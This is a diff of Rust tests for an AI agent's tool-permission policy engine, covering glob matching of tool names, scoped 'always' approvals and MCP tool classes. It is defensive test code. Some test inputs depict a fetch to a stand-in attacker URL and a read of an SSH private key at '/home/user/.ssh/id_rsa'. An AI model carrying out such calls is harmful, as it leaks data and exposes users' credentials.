@@ -968,7 +968,7 @@ programs = ["curl"]
 "#
         )
     };
-    for tool in ["shell", "Bash", "sh*"] {
+    for tool in ["shell", "Bash"] {
         let (policy, dir) = shipped_with(&rules(tool));
         let evaluation = decide(&policy, "curl https://docs.rs/");
         assert_eq!(evaluation.decision, Decision::Deny, "tools = [{tool:?}]");
@@ -984,8 +984,131 @@ programs = ["curl"]
             assert!(notes.is_empty(), "{notes:?}");
         }
     }
-    // A kind that is not the call's does not match.
-    let (policy, _dir) = shipped_with(&rules("web_fetch"));
-    let evaluation = decide(&policy, "curl https://docs.rs/");
-    assert!(!evaluation.rule_ids().contains(&"user.no-curl".to_string()));
+    // A kind that is not the call's does not match, nor does a glob over kind names.
+    for tool in ["web_fetch", "sh*"] {
+        let (policy, _dir) = shipped_with(&rules(tool));
+        let evaluation = decide(&policy, "curl https://docs.rs/");
+        assert!(
+            !evaluation.rule_ids().contains(&"user.no-curl".to_string()),
+            "{tool}"
+        );
+    }
+}
+
+/// Review round 22 (the shared tool vocabulary): a glob in `tools` is matched against tool
+/// names only, never against kind names, so a glob written for MCP tools does not start to cover
+/// built-in tools; kinds are matched when named exactly.
+#[test]
+fn a_tools_glob_never_matches_a_kind_name_only_an_exact_kind_does() {
+    let rule = |tools: &str| {
+        format!(
+            r#"
+[[rule]]
+id = "user.fetch"
+decision = "allow"
+justification = "our fetch MCP server"
+tools = [{tools}]
+"#
+        )
+    };
+    let fetch = |policy: &Policy| {
+        let classifier = Classifier::new(Env::example()).unwrap();
+        let request = ActionRequest::tool_call(
+            "claude-code",
+            PathBuf::from(EXAMPLE_CWD),
+            "WebFetch",
+            serde_json::json!({"url": "https://attacker.example/?k=1", "prompt": "x"}),
+        );
+        let classification = classifier.classify(&request);
+        policy.evaluate(&request, &classification)
+    };
+    for glob in [r#""*fetch*""#, r#""web_*""#, r#""*_fetch""#, r#""[a-z]*""#] {
+        let (policy, _dir) = shipped_with(&rule(glob));
+        let evaluation = fetch(&policy);
+        assert!(
+            !evaluation.rule_ids().contains(&"user.fetch".to_string()),
+            "tools = [{glob}] must not cover web fetches: {:?}",
+            evaluation.rule_ids()
+        );
+    }
+    let (policy, _dir) = shipped_with(&rule(r#""web_fetch""#));
+    assert!(
+        fetch(&policy)
+            .rule_ids()
+            .contains(&"user.fetch".to_string())
+    );
+    // Globs still match MCP names and agents' own names, as before.
+    let (policy, _dir) = shipped_with(&rule(r#""mcp__fetch__*""#));
+    let (evaluation, _) = decide_mcp(&policy, "mcp__fetch__get");
+    assert!(evaluation.rule_ids().contains(&"user.fetch".to_string()));
+    let (policy, _dir) = shipped_with(&rule(r#""Web*""#));
+    assert!(
+        fetch(&policy)
+            .rule_ids()
+            .contains(&"user.fetch".to_string())
+    );
+}
+
+/// Review round 22: an "always" approval allows exactly the tool approved. Approving `LS` of a
+/// file must not allow `Read` of it (a kind entry would), and a hand-written entry naming a kind
+/// must name what it allows.
+#[test]
+fn an_always_entry_names_the_approved_tool_and_a_kind_entry_must_name_something() {
+    let classifier = Classifier::new(Env::example()).unwrap();
+    let policy = shipped();
+    let call = |tool: &str| {
+        ActionRequest::tool_call(
+            "claude-code",
+            PathBuf::from(EXAMPLE_CWD),
+            tool,
+            serde_json::json!({"path": "/home/user/.ssh/id_rsa", "file_path": "/home/user/.ssh/id_rsa"}),
+        )
+    };
+    let ls = call("LS");
+    let classification = classifier.classify(&ls);
+    let evaluation = policy.evaluate(&ls, &classification);
+    let entries = amend::entries_for(&ls, &classification, &evaluation, "note").unwrap();
+    assert!(entries.iter().all(|e| e.tool == "LS"), "{entries:?}");
+    let (amended, _dir) = shipped_with(&amend::render(entries).unwrap());
+    let decided = |policy: &Policy, request: &ActionRequest| {
+        let classification = classifier.classify(request);
+        policy.evaluate(request, &classification).decision
+    };
+    assert_eq!(decided(&amended, &ls), Decision::Allow);
+    assert!(decided(&amended, &call("Read")) > Decision::Allow);
+
+    for tool in ["read_path", "delegate", "web_search", "mcp_call", "other"] {
+        let text = format!(
+            "[[always]]\nid = \"always.x\"\njustification = \"j\"\ntool = \"{tool}\"\nclasses = [\"read\"]\nworkspace = \"/home/user/project\"\n"
+        );
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("always.toml"), text).unwrap();
+        let err = Policy::load(&[shipped_policy_dir(), dir.path().to_path_buf()])
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("must also name what it allows"),
+            "{tool}: {err}"
+        );
+    }
+}
+
+/// Review round 22: an MCP name the adapter cannot split (`mcp__prod_db`) still gets the
+/// `[[mcp_tool]]` classes its name matches.
+#[test]
+fn an_mcp_name_without_a_tool_part_still_gets_its_mcp_tool_classes() {
+    let extra = r#"
+[[mcp_tool]]
+id = "mcp.prod"
+justification = "The production database server."
+tools = ["mcp__prod*"]
+classes = ["data.export"]
+"#;
+    let (policy, _dir) = shipped_with(extra);
+    let (_, classification) = decide_mcp(&policy, "mcp__prod_db");
+    assert!(
+        classification.classes().contains(&ActionClass::DataExport),
+        "{:?}",
+        classification.classes()
+    );
 }
